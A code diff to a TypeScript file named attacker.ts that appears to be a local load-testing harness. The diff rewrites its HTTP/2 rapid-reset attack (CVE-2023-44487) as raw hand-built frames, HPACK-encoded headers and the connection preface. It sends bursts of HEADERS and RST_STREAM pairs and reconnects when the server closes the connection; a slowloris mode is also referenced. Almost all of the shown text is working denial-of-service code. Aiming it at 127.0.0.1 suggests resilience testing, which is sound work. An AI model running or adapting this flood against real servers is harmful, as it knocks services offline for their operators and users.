@@ -3,7 +3,6 @@
 //   node attacker.ts slowloris PORT COUNT IPS DRIP_MS   (IPS: how many source addresses, 127.0.1.x)
 //   node attacker.ts rapid-reset PORT CONNECTIONS TOKEN
 // It attacks until SIGTERM, then prints one JSON line of counters and exits.
-import { connect as h2connect, constants, type ClientHttp2Session } from 'node:http2';
 import { connect as netConnect } from 'node:net';
 import { connect as tlsConnect, type TLSSocket } from 'node:tls';
 
@@ -71,45 +70,74 @@ function slowloris(ips: number, dripMs: number): void {
   }, 100);
 }
 
-// Rapid reset (CVE-2023-44487): HEADERS immediately followed by RST_STREAM, as fast as the
-// connection lets us; a refused connection (GOAWAY) is replaced by a new one.
+// Rapid reset (CVE-2023-44487), written as raw frames: HEADERS (END_STREAM) immediately followed
+// by RST_STREAM(CANCEL) for the same stream, 100 pairs per write, as fast as the socket drains.
+// (Node's own client never sends the HEADERS of a stream closed before it was flushed.) A closed
+// connection is replaced by a new one.
+function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const h = Buffer.alloc(9);
+  h.writeUIntBE(payload.length, 0, 3);
+  h[3] = type;
+  h[4] = flags;
+  h.writeUInt32BE(stream, 5);
+  return Buffer.concat([h, payload]);
+}
+
+// HPACK literal header fields without indexing, no Huffman (names and values < 127 bytes).
+function hpack(fields: [string, string][]): Buffer {
+  const out: Buffer[] = [];
+  for (const [n, v] of fields)
+    out.push(Buffer.from([0, n.length]), Buffer.from(n), Buffer.from([v.length]), Buffer.from(v));
+  return Buffer.concat(out);
+}
+
 function rapidReset(connections: number, token: string): void {
+  const block = hpack([
+    [':method', 'GET'],
+    [':scheme', 'https'],
+    [':path', '/api/v1/namespaces/default/configmaps/bench'],
+    [':authority', '127.0.0.1'],
+    ['authorization', `Bearer ${token}`],
+  ]);
+  const cancel = Buffer.from([0, 0, 0, 8]);
   const one = (): void => {
     if (stopping) return;
-    const session: ClientHttp2Session = h2connect(`https://127.0.0.1:${port}`, {
-      rejectUnauthorized: false,
-    });
-    session.on('error', () => bump('errors'));
-    session.on('goaway', () => bump('goaways'));
+    const s = tlsConnect({ host: '127.0.0.1', port, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
+    let id = 1;
     let alive = true;
-    session.once('close', () => {
-      alive = false;
-      if (!stopping) setTimeout(one, 50);
+    s.on('error', () => bump('errors'));
+    s.on('data', (c: Buffer) => {
+      // A GOAWAY frame header (type 7) anywhere in what the server sent.
+      for (let i = 0; i + 9 <= c.length; i++)
+        if (c[i + 3] === 7 && c[i] === 0 && c[i + 1] === 0) bump('goaways');
     });
-    session.once('connect', () => {
+    s.once('close', () => {
+      alive = false;
+      if (!stopping) {
+        bump('closedByServer');
+        setTimeout(one, 50);
+      }
+    });
+    const burst = (): void => {
+      if (!alive || stopping) return;
+      const frames: Buffer[] = [];
+      for (let k = 0; k < 100 && id < 0x7fffffff; k++, id += 2) {
+        frames.push(frame(1, 0x5, id, block), frame(3, 0, id, cancel));
+        bump('streamsReset');
+      }
+      if (s.write(Buffer.concat(frames))) setImmediate(burst);
+      else s.once('drain', burst);
+    };
+    s.once('secureConnect', () => {
       bump('opened');
-      const burst = (): void => {
-        if (!alive || stopping || session.destroyed || session.closed) return;
-        for (let k = 0; k < 100; k++) {
-          try {
-            const req = session.request({
-              ':path': '/api/v1/namespaces/default/configmaps/bench',
-              authorization: `Bearer ${token}`,
-            });
-            req.on('error', () => {});
-            req.close(constants.NGHTTP2_CANCEL);
-            bump('streamsReset');
-          } catch {
-            return;
-          }
-        }
-        setImmediate(burst);
-      };
+      s.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0)), frame(4, 1, 0, Buffer.alloc(0))]));
       burst();
     });
   };
   for (let i = 0; i < connections; i++) one();
 }
+
+const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
 
 process.on('SIGTERM', () => {
   stopping = true;
